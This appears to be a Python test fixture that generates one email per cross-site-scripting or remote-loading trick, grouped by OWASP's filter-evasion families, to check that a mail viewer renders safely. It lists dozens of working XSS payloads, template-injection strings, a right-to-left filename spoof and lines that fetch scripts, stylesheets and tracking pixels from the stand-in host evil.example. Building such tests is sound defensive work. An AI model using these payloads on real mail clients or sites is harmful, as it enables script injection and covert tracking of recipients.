"""Mail that tries to run a script or to load something when it is shown: our own set, by the families of OWASP's sheet.

Whatever succeeds sets `window.pwned`, opens a dialog, or asks `evil.example` for something; tests look for all three. One
message has one trick in its subject, names, HTML and attachment names.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator

EVIL = "http://evil.example"
RUN = "window.pwned=1;alert(1)"

TRICKS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<script src="{EVIL}/a.js"></script>',
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN.replace(';', '%3b')}>",
    f'<img src="{EVIL}/pixel.gif" width=1 height=1>',
    f'<img srcset="{EVIL}/set.png 2x" src="cid:none">',
    f'<img src="javascript:{RUN}">',
    f'<image href="{EVIL}/image.png">',
    f'<svg onload="{RUN}"><circle r=1></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><image href="{EVIL}/svg.png"/></svg>',
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    f'<body onload="{RUN}" background="{EVIL}/body.png">',
    f'<iframe src="{EVIL}/frame"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="{EVIL}/object.swf"></object><embed src="{EVIL}/embed.swf">',
    f'<link rel=stylesheet href="{EVIL}/a.css">',
    f'<style>@import "{EVIL}/b.css";body{{background:url({EVIL}/c.png)}}</style>',
    f'<div style="background:url({EVIL}/d.png)">x</div>',
    f'<div style="background-image:\\75rl({EVIL}/e.png)">x</div>',
    f'<div style="width:expression({RUN})">x</div>',
    f'<meta http-equiv=refresh content="0;url={EVIL}/refresh"><base href="{EVIL}/">',
    f'<form action="{EVIL}/form"><input name=q autofocus onfocus="{RUN}"></form>',
    f'<form><button formaction="javascript:{RUN}">x</button></form>',
    f'<video src="{EVIL}/v.mp4" autoplay onerror="{RUN}"></video><audio src="{EVIL}/a.mp3" autoplay></audio>',
    f'<video poster="{EVIL}/poster.png"><source src="{EVIL}/s.mp4" onerror="{RUN}"></video>',
    f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}">click</a><a href="{EVIL}/ping" ping="{EVIL}/p">link</a>',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<marquee onstart="{RUN}">x</marquee>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<!--><img src=x onerror='{RUN}'>-->",
    f'"><script>{RUN}</script>',
    f"'-{RUN}-'",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    f"</textarea></title></style><script>{RUN}</script>",
    f"\x1b]0;{RUN}\x07<plaintext>",
    "\u202egpj.exe\u202c <b>",
    f'<template><script>{RUN}</script></template><slot onslotchange="{RUN}">',
    f'<input type=image src="{EVIL}/input.png" onerror="{RUN}">',
    f'<table background="{EVIL}/table.png"><td background="{EVIL}/td.png">',
)


def messages() -> Iterator[bytes]:
    """One message for each trick."""
    for number, trick in enumerate(TRICKS, 1):
        yield _message(number, trick)


def _message(number: int, trick: str) -> bytes:
    word = base64.b64encode(trick.encode()).decode()
    encoded = f"=?utf-8?b?{word}?="
    quoted = trick.replace("\\", "\\\\").replace('"', '\\"').replace("\x1b", "").replace("\x07", "")
    name = trick.encode("ascii", "replace").decode().replace("\x1b", "").replace("\x07", "").replace("\\", "").replace('"', "'")
    address = f"trick{number}@example.net"
    html = f"<html><body><p>Trick {number}</p>{trick}<p>end</p></body></html>"
    head = (
        f'From: "{quoted.encode("ascii", "replace").decode()}" <{address}>\r\n'
        f"Reply-To: {encoded} <x{number}@evil.example>\r\n"
        f"To: {encoded} <support@example.com>\r\nSubject: {number} {encoded}\r\nDate: Sun, 22 Nov 2026 10:00:00 +0000\r\n"
        f"Message-ID: <{address}>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"
    )
    body = (
        f"--x\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        f"{base64.encodebytes(html.encode()).decode()}\r\n"
        f'--x\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename="{name[:180]}.html"\r\n\r\n'
        f"<script>{RUN}</script>\r\n"
        "--x--\r\n"
    )
    return (head + body).encode("utf-8", "replace")
